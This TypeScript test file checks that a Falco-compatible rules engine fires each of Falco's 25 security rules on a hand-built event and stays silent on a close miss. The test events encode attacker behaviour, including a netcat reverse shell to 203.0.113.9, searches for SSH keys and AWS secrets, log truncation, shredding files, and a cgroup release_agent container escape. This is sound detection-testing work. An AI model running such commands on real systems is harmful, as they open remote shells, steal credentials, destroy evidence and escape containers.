// Falco's own rules (../shared/falco/falco_rules.yaml) load unchanged and decide like Falco: for every rule, a
// hand-built event showing the behaviour fires it, and a close miss (one detail changed) does not.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { loadRules } from '../../src/engine/engine.ts';
import { syscallFields } from '../../src/engine/fields/syscall.ts';
import { k8sAuditFields } from '../../src/engine/fields/k8s_audit.ts';
import { compileOutputFormat } from '../../src/engine/format.ts';
import { buildAlert } from '../../src/engine/alert.ts';
import type { SyscallEvent } from '../../src/engine/event.ts';
import { container, exec, openFile, syscall } from '../../src/engine/testing/events.ts';
import { falcoPath } from '../support/falco-data.ts';
import { rfc3339ToNs } from '../../src/k8saudit/parse.ts';
import { stringifyJson } from '../../src/alert/json.ts';

const O_RDONLY = 0, O_WRONLY = 1, O_TRUNC = 0o1000, O_APPEND = 0o2000, O_CLOEXEC = 0o2000000;
const CAP_SYS_MODULE = 1n << 16n, CAP_SYS_ADMIN = 1n << 21n;
const SECOND = 1_000_000_000n;

const options = { tables: [syscallFields, k8sAuditFields], ruleMatching: 'all' as const, compileOutput: compileOutputFormat };
const { engine, errors, warnings } = loadRules([{ name: falcoPath('falco_rules.yaml') }], options);

function matches(e: SyscallEvent): string[] {
  return engine.evaluate(e).map((r) => r.name);
}

test('falco_rules.yaml loads with zero errors and zero warnings: 25 rules, 87 macros, 49 lists', () => {
  assert.deepEqual(errors, []);
  assert.deepEqual(warnings.map((w) => `${w.code} ${w.message}`), []);
  assert.deepEqual(engine.counts(), { rules: 25, macros: 87, lists: 49 });
  assert.equal(engine.rules.length, 25);
});

test('rules are indexed by event type as Falco indexes them', () => {
  const types = (name: string) => [...(engine.rules.find((r) => r.name === name)!.eventTypes ?? ['ALL'])].sort();
  assert.deepEqual(types('Read sensitive file untrusted'), ['open', 'openat', 'openat2']);
  assert.deepEqual(types('Run shell untrusted'), ['execve', 'execveat']);
  assert.deepEqual(types('Disallowed SSH Connection Non Standard Port'), ['connect', 'sendmsg', 'sendto']);
  for (const r of engine.rules) assert.ok(r.eventTypes, `${r.name} must have an event-type set`);
});

const inContainer = container({ imageRepository: 'docker.io/library/alpine', image: 'alpine:3.20', imageTag: '3.20' });
const privileged = container({ privileged: true });

function connect(sip: string, sport: number, t: Parameters<typeof syscall>[0]['thread'], sipName?: string, where?: ReturnType<typeof container>): SyscallEvent {
  return syscall({
    type: 'connect', res: 0, thread: t, ...(where ? { container: where } : {}),
    args: { fd: 3 },
    fd: { num: 3, type: 'ipv4', name: '', cip: '192.168.1.5', cport: 50000, sip, sport, l4proto: 'tcp', connected: true, ...(sipName ? { sipName } : {}) },
  });
}

function ptrace(request: number, comm = 'evil'): SyscallEvent {
  return syscall({ type: 'ptrace', args: { request, pid: 1 }, res: 0, thread: { comm } });
}

/** rule → [event that fires it, close miss that does not]. */
const cases: Record<string, [SyscallEvent, SyscallEvent]> = {
  'Directory traversal monitored file read': [
    { ...openFile('/etc/shadow', O_RDONLY, { comm: 'php', ancestors: ['nginx'] }), fd: { num: 3, type: 'file', name: '/etc/shadow', nameRaw: '/var/www/../../etc/shadow' } },
    { ...openFile('/etc/shadow', O_RDONLY, { comm: 'php', ancestors: ['bash'] }), fd: { num: 3, type: 'file', name: '/etc/shadow', nameRaw: '/var/www/../../etc/shadow' } },
  ],
  'Read sensitive file trusted after startup': [
    openFile('/etc/shadow', O_RDONLY, { comm: 'nginx' }),
    { ...openFile('/etc/shadow', O_RDONLY, { comm: 'nginx', startTs: 1_700_000_000_000_000_000n - SECOND }) },
  ],
  'Read sensitive file untrusted': [
    openFile('/etc/shadow', O_RDONLY | O_CLOEXEC, { comm: 'cat', args: ['/etc/shadow'] }),
    openFile('/etc/shadow', O_RDONLY | O_CLOEXEC, { comm: 'sudo' }),
  ],
  'Run shell untrusted': [
    exec({ comm: 'sh', args: ['-c', 'id'], ancestors: ['nginx', 'systemd'] }),
    exec({ comm: 'sh', args: ['-c', 'id'], ancestors: ['notaserver', 'systemd'] }),
  ],
  'System user interactive': [
    exec({ comm: 'bash', uid: 33, user: { uid: 33, name: 'www-data' }, ancestors: ['sshd', 'systemd'] }),
    exec({ comm: 'bash', uid: 1000, user: { uid: 1000, name: 'alice' }, ancestors: ['sshd', 'systemd'] }),
  ],
  'Terminal shell in container': [
    exec({ comm: 'bash', tty: 34816, ancestors: ['containerd-shim'] }, inContainer),
    exec({ comm: 'bash', tty: 0, ancestors: ['containerd-shim'] }, inContainer),
  ],
  'Contact K8S API Server From Container': [
    connect('10.96.0.1', 443, { comm: 'curl' }, 'kubernetes.default.svc.cluster.local', inContainer),
    connect('10.96.0.1', 443, { comm: 'curl' }, 'example.com', inContainer),
  ],
  'Netcat Remote Code Execution in Container': [
    exec({ comm: 'nc', args: ['-e', '/bin/sh', '203.0.113.9', '4444'] }, inContainer),
    exec({ comm: 'nc', args: ['-e', '/bin/sh', '203.0.113.9', '4444'] }),
  ],
  'Search Private Keys or Passwords': [
    exec({ comm: 'find', args: ['/', '-name', 'id_rsa'] }),
    exec({ comm: 'find', args: ['/', '-name', 'notes.txt'] }),
  ],
  'Clear Log Activities': [
    openFile('/var/log/syslog', O_WRONLY | O_TRUNC, { comm: 'bash' }),
    openFile('/var/log/syslog', O_WRONLY | O_APPEND, { comm: 'bash' }),
  ],
  'Remove Bulk Data from Disk': [exec({ comm: 'shred', args: ['-u', 'db.sqlite'] }), exec({ comm: 'rm', args: ['db.sqlite'] })],
  'Create Symlink Over Sensitive Files': [
    syscall({ type: 'symlinkat', args: { target: '/etc/shadow', linkdirfd: -100, linkpath: '/tmp/s' } }),
    syscall({ type: 'symlinkat', args: { target: '/etc/hostname', linkdirfd: -100, linkpath: '/tmp/s' } }),
  ],
  'Create Hardlink Over Sensitive Files': [
    syscall({ type: 'linkat', args: { olddir: -100, oldpath: '/etc/shadow', newdir: -100, newpath: '/tmp/h', flags: 0 } }),
    syscall({ type: 'linkat', args: { olddir: -100, oldpath: '/etc/hostname', newdir: -100, newpath: '/tmp/h', flags: 0 } }),
  ],
  'Packet socket created in container': [
    syscall({ type: 'socket', args: { domain: 17, type: 3, proto: 768 }, res: 3, container: inContainer }),
    syscall({ type: 'socket', args: { domain: 2, type: 1, proto: 0 }, res: 3, container: inContainer }),
  ],
  'Redirect STDOUT/STDIN to Network Connection in Container': [
    syscall({ type: 'dup2', args: { oldfd: 3, newfd: 1 }, res: 1, container: inContainer, fd: { num: 1, type: 'ipv4', name: '', cip: '172.17.0.2', cport: 40000, sip: '203.0.113.9', sport: 4444, l4proto: 'tcp' } }),
    syscall({ type: 'dup2', args: { oldfd: 3, newfd: 1 }, res: 1, container: inContainer, fd: { num: 1, type: 'file', name: '/tmp/out' } }),
  ],
  'Linux Kernel Module Injection Detected': [
    syscall({ type: 'init_module', res: 0, container: inContainer, thread: { comm: 'insmod', capEffective: CAP_SYS_MODULE | CAP_SYS_ADMIN } }),
    syscall({ type: 'init_module', res: 0, container: inContainer, thread: { comm: 'insmod', capEffective: CAP_SYS_ADMIN } }),
  ],
  'Debugfs Launched in Privileged Container': [exec({ comm: 'debugfs', args: ['/dev/sda1'] }, privileged), exec({ comm: 'debugfs', args: ['/dev/sda1'] }, inContainer)],
  'Detect release_agent File Container Escapes': [
    openFile('/sys/fs/cgroup/rdma/release_agent', O_WRONLY, { comm: 'sh', capEffective: CAP_SYS_ADMIN }, privileged),
    openFile('/sys/fs/cgroup/rdma/release_agent', O_WRONLY, { comm: 'sh', capEffective: 0n }, privileged),
  ],
  'PTRACE attached to process': [ptrace(16), ptrace(12)],
  'PTRACE anti-debug attempt': [ptrace(0), ptrace(7)],
  'Find AWS Credentials': [exec({ comm: 'grep', args: ['-r', 'aws_secret_access_key', '/home'] }), exec({ comm: 'grep', args: ['-r', 'password', '/home'] })],
  'Execution from /dev/shm': [exec({ comm: 'x', exe: '/dev/shm/x', exepath: '/dev/shm/x' }), exec({ comm: 'x', exe: '/tmp/x', exepath: '/tmp/x' })],
  'Drop and execute new binary in container': [
    exec({ comm: 'miner', exe: '/tmp/miner', exepath: '/tmp/miner', exeUpperLayer: true }, inContainer),
    exec({ comm: 'miner', exe: '/tmp/miner', exepath: '/tmp/miner', exeUpperLayer: false }, inContainer),
  ],
  'Disallowed SSH Connection Non Standard Port': [connect('198.51.100.7', 443, { comm: 'ssh', exe: '/usr/bin/ssh' }), connect('198.51.100.7', 22, { comm: 'ssh', exe: '/usr/bin/ssh' })],
  'Fileless execution via memfd_create': [
    exec({ comm: '3', exe: 'memfd:payload', exepath: '/memfd:payload (deleted)', exeFromMemfd: true }),
    exec({ comm: 'runc', exe: '/proc/self/fd/3', exepath: '/memfd:runc_cloned:/proc/self/exe (deleted)', exeFromMemfd: true, ancestors: ['containerd-shim'] }),
  ],
};

test('there is a fire/miss pair for every rule in falco_rules.yaml', () => {
  assert.deepEqual(Object.keys(cases).sort(), engine.rules.map((r) => r.name).sort());
});

for (const [name, [hit, miss]] of Object.entries(cases)) {
  test(`rule "${name}": fires on the behaviour, not on the close miss`, () => {
    assert.ok(matches(hit).includes(name), `expected ${name}; matched ${JSON.stringify(matches(hit))}`);
    assert.ok(!matches(miss).includes(name), `did not expect ${name}`);
    const rule = engine.rules.find((r) => r.name === name)!;
    const text = rule.format!(hit).text;
    assert.ok(!text.includes('%'), text);
  });
}

test("the alert JSON has Falco's shape (compared with falco_json_alert_examples.jsonl)", () => {
  const example = JSON.parse(readFileSync(falcoPath('falco_json_alert_examples.jsonl'), 'utf8').split('\n')[0]!);
  const { engine: e2 } = loadRules([{ name: falcoPath('falco_json_alert_examples.rules.yaml') }], options);
  const ts = rfc3339ToNs(example.time)!;
  const event = { ...syscall({ type: 'open', args: { name: '/dev/null', flags: 0 }, res: 3, thread: { comm: 'cat', args: ['/dev/null'] }, fd: { num: 3, type: 'file', name: '/dev/null' } }), ts };
  const [rule] = e2.evaluate(event);
  assert.ok(rule);
  const alert = buildAlert(rule, event, rule.format!(event), { hostname: 'test-falco-hostname', iso8601: true });
  // The alert as written (exact int64 text); Go's JSONEq then compares numbers as float64: so do we.
  assert.deepEqual(JSON.parse(stringifyJson(alert)), JSON.parse(JSON.stringify(example)));
  assert.deepEqual(Object.keys(alert), [...Object.keys(alert)].sort());
});
